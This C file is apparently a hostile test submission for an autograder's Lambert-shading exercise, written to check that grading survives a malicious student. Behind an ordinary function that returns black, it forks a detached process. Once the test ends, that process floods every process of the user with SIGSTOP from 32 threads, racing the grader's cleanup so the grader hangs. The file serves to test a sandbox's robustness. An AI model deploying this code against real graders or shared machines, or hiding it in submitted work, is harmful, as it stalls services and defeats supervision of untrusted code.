/* Hostile submission for chapter 05 (tools/hostile.sh): lambert leaves a
 * process in a session of its own that waits for its test to end, then
 * sends SIGSTOP to every process of its user, over and over, from 32
 * threads (kill(-1) spares the threads of the caller): the grader's
 * clean-up starts a child that becomes that user to kill them all
 * (kill(-1)), and a stop that reaches that child between its setuid and its
 * kill leaves it stopped, with the grader waiting for it.  The grading must
 * end all the same, with nothing of the user left.  lambert returns zeros. */
#define _DEFAULT_SOURCE /* setsid, usleep */
#include <pthread.h>
#include <signal.h>
#include <unistd.h>

#include "05_lambert/lambert.h"

static void *stop_all(void *unused)
{
    (void)unused;
    for (;;)
        kill(-1, SIGSTOP);
    return NULL;
}

color lambert(color k_d, vec3 point, vec3 n, const scene_light *light)
{
    (void)k_d, (void)point, (void)n, (void)light;
    static int done;
    if (!done) {
        done = 1;
        pid_t test = getpid();
        if (fork() == 0) {
            setsid();
            while (getppid() == test) /* the test runs on; then it has ended */
                usleep(100);
            pthread_t t;
            for (int k = 0; k < 31; k++)
                pthread_create(&t, NULL, stop_all, NULL);
            stop_all(NULL);
        }
    }
    return color_make(0, 0, 0);
}
